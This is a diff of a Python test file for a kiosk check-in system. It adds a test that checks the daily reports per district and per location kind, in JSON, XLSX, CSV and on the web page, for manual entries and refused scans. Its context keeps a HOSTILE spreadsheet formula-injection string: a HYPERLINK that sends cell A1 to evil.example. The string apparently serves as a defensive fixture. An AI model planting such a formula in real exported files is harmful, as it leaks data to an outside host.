@@ -8,14 +8,17 @@ import io
 import json
 from pathlib import Path
 
-from central_support import central, database_url
+from central_support import central, database_url, serving
 from openpyxl import load_workbook
 from report_support import DAY, GenBatch, GenKiosk, World, load, wire_entry
+from web_support import add_users, signed_in
 
 from kiosk import messages
-from kiosk.central import report_formats, reports, sheets
+from kiosk.central import heartbeat, report_formats, reports, sheets
+from kiosk.central.app import create_app
 from kiosk.central.backends import open_storage
 from kiosk.central.registry import Checkpoint
+from kiosk.sync import protocol
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
@@ -193,3 +196,48 @@ def test_changing_the_time_zone_refiles_every_scan(tmp_path: Path) -> None:
     for bad_zone in ("Mars/Base", "Asia"):  # "Asia" is a folder of zones, not one
         bad = central("timezone", bad_zone, "--db", db, check=False)
         assert bad.returncode == 2 and "unknown" in bad.stderr and bad_zone in bad.stderr
+
+
+def test_the_daily_files_and_page_per_district_and_kind_carry_manual_entries_and_refusals(
+        tmp_path: Path) -> None:
+    """A day at two points: P1 (Đồng Xoài, a market) with two scans and an entry typed by
+    hand, P2 (Bình Long, a school) with a scan and 5 scans refused. The report's JSON rows
+    per district and per kind carry Nhập tay and Quét lỗi; the XLSX and CSV sheets and the
+    Reports page's sections Theo huyện / Theo loại địa điểm show the same figures (before,
+    they stopped at Quét trùng: a district officer could not see their refusals)."""
+    k1, k2 = (GenKiosk(k, p, 0.0, dt.datetime(2026, 10, 1, tzinfo=dt.UTC), None)
+              for k, p in (("k1", "P1"), ("k2", "P2")))
+    world = World("Asia/Ho_Chi_Minh", [
+        Checkpoint("P1", "Chợ", district="Đồng Xoài", kind="market", set_up_on="2026-11-01"),
+        Checkpoint("P2", "Trường", district="Bình Long", kind="school", set_up_on="2026-11-01"),
+    ], [k1, k2])
+    nine = world.local_midnight(DAY) + dt.timedelta(hours=9)
+    for kiosk, manual, person in ((k1, False, 1), (k1, False, 2), (k1, True, 3), (k2, False, 4)):
+        world.batches.append(GenBatch(kiosk, [wire_entry(kiosk, kiosk.checkpoint_id, nine,
+                                                         "in", manual, person)],
+                                      nine + dt.timedelta(minutes=1)))
+    db = database_url("sqlite", tmp_path)
+    add_users(tmp_path, db, {"viewer1": ("viewer", None)})
+    with open_storage(db) as storage:
+        load(storage, world)
+        heartbeat.record(storage, "k2", protocol.validate_health({
+            "software_version": "0.1.0", "pending": 0, "oldest_pending_seconds": None,
+            "rejected": 0, "devices": [], "free_disk_bytes": None,
+            "refused_by_hour": {nine.strftime("%Y-%m-%dT%H"): 5}}),
+            nine + dt.timedelta(hours=1), 0.0)
+        report = reports.daily(storage, DAY)
+        with serving(create_app(storage)) as url, signed_in(url, "viewer1") as client:
+            page = client.get("/reports", params={"date": DAY.isoformat()}).text
+    expected = {"Theo huyện": [["Bình Long", 0, 5], ["Đồng Xoài", 1, 0]],
+                "Theo loại địa điểm": [["Chợ / siêu thị", 1, 0], ["Trường học", 0, 5]]}
+    assert [[r["district"], r["manual"], r["refused"]] for r in report["by_district"]] == \
+        [[name, manual, refused] for name, manual, refused in expected["Theo huyện"]]
+    book = load_workbook(io.BytesIO(report_formats.render(report, "xlsx")))
+    text = report_formats.render(report, "csv").decode("utf-8")
+    for title, rows in expected.items():
+        sheet = list(book[title].iter_rows(values_only=True))
+        assert sheet[0][-3:] == ("Quét trùng", "Nhập tay", "Quét lỗi")
+        assert [[row[0], *row[-2:]] for row in sheet[1:]] == rows
+        assert f"# {title}\r\n{','.join(sheet[0])}\r\n" in text
+        section = page.split(f"<h2>{title}</h2>", 1)[1].split("</table>", 1)[0]
+        assert "<th class=\"n\">Nhập tay</th><th class=\"n\">Quét lỗi</th></tr>" in section
